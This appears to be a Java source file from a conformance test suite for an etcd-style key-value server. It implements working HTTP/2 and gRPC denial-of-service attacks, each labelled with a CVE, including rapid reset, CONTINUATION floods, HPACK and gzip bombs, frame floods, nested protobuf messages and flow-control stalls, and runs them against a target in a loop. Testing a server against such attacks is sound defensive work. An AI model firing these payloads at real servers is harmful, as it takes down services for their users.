package dev.kvserver.conformance.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

import com.google.protobuf.ByteString;
import dev.kvserver.proto.etcdserverpb.RangeRequest;

/** Attacks over HTTP/2 and gRPC, by the names and numbers that they are known by. */
final class Http2Attacks {

	private static final String WATCH = "/etcdserverpb.Watch/Watch";

	private static final String RANGE = "/etcdserverpb.KV/Range";

	private static final String TXN = "/etcdserverpb.KV/Txn";

	private static final int MANY = 1_000;

	private static final int BOMB_BYTES = 200 << 20;

	/** Each entry of a header list is 4 KB large, and a byte on the wire. */
	private static final int BOMB_ENTRIES = 16_000;

	private Http2Attacks() {
	}

	static Map<String, Attack> all() {
		Map<String, Attack> attacks = new LinkedHashMap<>();
		attacks.put("row 16, rapid reset, CVE-2023-44487", repeated(rapidReset()));
		attacks.put("row 17, made you reset, CVE-2025-55163", repeated(madeYouReset()));
		attacks.put("row 18, streams before the settings are acknowledged, CVE-2026-47244", repeated(manyStreams()));
		attacks.put("row 19, empty CONTINUATION frames, CVE-2026-33871", repeated(continuations(100_000, 0)));
		attacks.put("row 20, endless header block, CVE-2026-50560", repeated(continuations(1_000, 1 << 14)));
		attacks.put("row 20, header list of a few bytes that is large, HPACK bomb", repeated(headerBomb()));
		attacks.put("row 21, compressed bomb in a message, CVE-2025-58057", repeated(compressedBomb()));
		attacks.put("row 24, ping flood, CVE-2019-9512", repeated(flood(Frames.PING, 0, new byte[8])));
		attacks.put("row 24, settings flood, CVE-2019-9515", repeated(flood(Frames.SETTINGS, 0)));
		attacks.put("row 24, reset flood of unknown streams, CVE-2019-9514",
				repeated(flood(Frames.RST_STREAM, 7, Frames.CANCEL)));
		attacks.put("row 24, empty frames, CVE-2019-9518", repeated(emptyData()));
		attacks.put("row 25, nested messages, CVE-2024-7254", repeated(nestedTxn(20_000)));
		attacks.put("row 25, nested groups, CVE-2024-7254", repeated(nestedGroups(1 << 20)));
		attacks.put("answers that are never read, CVE-2019-9517", Http2Attacks::unreadAnswers);
		attacks.put("answers for which there is never room, CVE-2019-9511", Http2Attacks::closedWindows);
		return attacks;
	}

	private static Attack repeated(Frames frames) {
		byte[] bytes = frames.toBytes();
		return (target) -> {
			while (target.isOn()) {
				target.send(bytes);
			}
		};
	}

	private static Frames rapidReset() {
		Frames frames = Frames.preface();
		for (int i = 0; i < MANY; i++) {
			frames.call(2 * i + 1, WATCH).add(Frames.RST_STREAM, 0, 2 * i + 1, Frames.CANCEL);
		}
		return frames;
	}

	/**
	 * A window that grows by nothing is an error of the stream, which the server resets.
	 */
	private static Frames madeYouReset() {
		Frames frames = Frames.preface();
		for (int i = 0; i < MANY; i++) {
			frames.call(2 * i + 1, WATCH).add(Frames.WINDOW_UPDATE, 0, 2 * i + 1, new byte[4]);
		}
		return frames;
	}

	private static Frames manyStreams() {
		Frames frames = Frames.preface();
		for (int i = 0; i < 10 * MANY; i++) {
			frames.call(2 * i + 1, WATCH);
		}
		return frames;
	}

	private static Frames continuations(int count, int bytes) {
		Frames frames = Frames.preface().add(Frames.HEADERS, 0, 1, Frames.head(WATCH));
		byte[] payload = new byte[bytes];
		Arrays.fill(payload, (byte) 0x82);
		for (int i = 0; i < count; i++) {
			frames.add(Frames.CONTINUATION, 0, 1, payload);
		}
		return frames;
	}

	private static Frames headerBomb() {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		block.writeBytes(Frames.head(WATCH));
		byte[] value = new byte[3_900];
		Arrays.fill(value, (byte) 'v');
		// A literal that is added to the table as its entry 62; its length takes three
		// bytes.
		block.writeBytes(new byte[] { 0x40, 1, 'k', 127, (byte) (((value.length - 127) & 127) | 128),
				(byte) ((value.length - 127) >> 7) });
		block.writeBytes(value);
		byte[] references = new byte[BOMB_ENTRIES - block.size()];
		Arrays.fill(references, (byte) (0x80 | 62));
		block.writeBytes(references);
		Frames frames = Frames.preface();
		for (int i = 0; i < 20; i++) {
			frames.add(Frames.HEADERS, Frames.END_HEADERS, 2 * i + 1, block.toByteArray());
		}
		return frames;
	}

	private static Frames compressedBomb() {
		byte[] bomb = gzip(BOMB_BYTES);
		Frames frames = Frames.preface();
		for (int i = 0; i < 5; i++) {
			frames.call(2 * i + 1, RANGE, "grpc-encoding", "gzip").message(2 * i + 1, true, bomb);
		}
		return frames;
	}

	static byte[] gzip(int zeros) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
			byte[] block = new byte[1 << 16];
			for (int left = zeros; left > 0; left -= block.length) {
				gzip.write(block);
			}
		}
		catch (IOException ex) {
			throw new IllegalStateException("memory cannot fail to be written", ex);
		}
		return bytes.toByteArray();
	}

	private static Frames flood(int type, int stream, byte... payload) {
		Frames frames = Frames.preface();
		for (int i = 0; i < 20 * MANY; i++) {
			frames.add(type, 0, stream, payload);
		}
		return frames;
	}

	private static Frames emptyData() {
		Frames frames = Frames.preface().call(1, WATCH);
		for (int i = 0; i < 50 * MANY; i++) {
			frames.add(Frames.DATA, 0, 1);
		}
		return frames;
	}

	/**
	 * A txn in a txn in a txn: field 2 of a txn is an operation, whose field 4 is a txn.
	 */
	private static Frames nestedTxn(int depth) {
		ByteString inner = ByteString.EMPTY;
		for (int i = 0; i < depth; i++) {
			inner = wrap(0x12, wrap(0x22, inner));
		}
		return Frames.preface().call(1, TXN).message(1, false, inner.toByteArray());
	}

	private static ByteString wrap(int tag, ByteString inner) {
		ByteArrayOutputStream head = new ByteArrayOutputStream();
		head.write(tag);
		int length = inner.size();
		for (; length >= 128; length >>= 7) {
			head.write((length & 127) | 128);
		}
		head.write(length);
		return ByteString.copyFrom(head.toByteArray()).concat(inner);
	}

	/** Groups that begin and never end, in a field that nobody knows. */
	private static Frames nestedGroups(int bytes) {
		byte[] message = new byte[bytes];
		Arrays.fill(message, (byte) 0x7b);
		return Frames.preface().call(1, RANGE).message(1, false, message);
	}

	/**
	 * The windows are as large as can be, but nobody takes the answers from the socket.
	 */
	private static void unreadAnswers(Target target) throws IOException, InterruptedException {
		Frames frames = Frames.preface()
			.add(Frames.SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 127, (byte) -1, (byte) -1, (byte) -1)
			.add(Frames.WINDOW_UPDATE, 0, 0, (byte) 127, (byte) 0, (byte) 0, (byte) 0);
		askForMuch(target, frames);
	}

	/** The streams' windows have no room at all. */
	private static void closedWindows(Target target) throws IOException, InterruptedException {
		askForMuch(target, Frames.preface()
			.add(Frames.SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 0, (byte) 0, (byte) 0));
	}

	private static void askForMuch(Target target, Frames frames) throws IOException, InterruptedException {
		byte[] request = RangeRequest.newBuilder()
			.setKey(ByteString.copyFromUtf8(AttackTests.LARGE))
			.build()
			.toByteArray();
		for (int i = 0; i < MANY; i++) {
			frames.call(2 * i + 1, RANGE).message(2 * i + 1, false, request);
		}
		AttackTests.hold(target, frames.toBytes());
	}

}
